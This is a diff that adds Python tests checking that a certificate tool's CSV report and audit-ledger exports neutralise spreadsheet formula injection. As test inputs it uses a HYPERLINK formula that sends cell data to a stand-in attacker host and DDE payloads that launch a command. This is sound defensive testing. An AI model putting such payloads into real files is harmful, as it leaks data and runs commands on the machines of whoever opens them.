@@ -428,3 +428,54 @@ def test_the_responder_serves_no_file_outside_public(home: Home, kinko: Kinko, t
         assert responder.alive()
     finally:
         responder.stop()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"請求書")'
+
+
+def test_report_csv_neutralises_formula_cells(home: Home, kinko: Kinko, run_cli) -> None:
+    import csv
+    import io
+
+    kinko.add_customer("C1", "+株式会社テスト")
+    kinko.enroll_administrator("C1", FORMULA)
+    kinko.enroll_administrator("C1", "@SUM(1+1)*cmd|' /C calc'!A0")
+    result = run_cli("--home", home.path, "report", "enrollments", "--expiring-within", "90d", "--csv")
+    assert result.exit_code == 0, result.output
+    names = sorted(row["name"] for row in csv.DictReader(io.StringIO(result.output)))
+    assert names == sorted(["'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"])
+    for line in result.output.splitlines()[1:]:
+        for cell in next(csv.reader([line])):
+            assert not cell or cell[0] not in "=+-@\t\r", cell
+
+
+def test_ledger_csv_neutralises_formula_cells_and_still_verifies(home: Home, tmp_path: Path, clock) -> None:
+    import csv
+    import re
+
+    from kinko.ca import audit, ledger
+
+    actor = "=cmd|' /C calc'!A0"
+    Kinko(home, clock=clock, actor=actor).add_customer("C1", FORMULA[:60])
+    with home.store.transaction("'quoted", "2026-11-25T00:00:00Z") as tx:
+        tx.append_event("test.awkward", customer="-C", details={"note": "'"})
+    out = tmp_path / "ledger.csv"
+    stored = list(home.store.ledger_events())
+    audit.export(home, out, fmt="csv", actor="tester", now=clock.now())
+    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
+    assert any(row["actor"] == "'" + actor for row in rows)
+    assert any(row["actor"] == "''quoted" and row["customer"] == "'-C" for row in rows)
+    # Read back exactly as stored, and verified offline, signature and chain.
+    with out.open(encoding="utf-8", newline="") as handle:
+        assert list(ledger.read_export(handle)) == stored
+    assert audit.verify_export(out).ok
+    # README's recomputation from the CSV alone still holds.
+    readme = (ROOT / "README.md").read_text(encoding="utf-8")
+    script = re.search(r"```python\n(import csv, hashlib, json, sys\n.*?)```", readme, re.S)
+    assert script is not None
+    result = subprocess.run(
+        [sys.executable, "-c", script.group(1), str(out)], capture_output=True, text=True, check=False, timeout=60
+    )
+    assert result.returncode == 0 and result.stdout.startswith("chain intact"), result.stdout + result.stderr
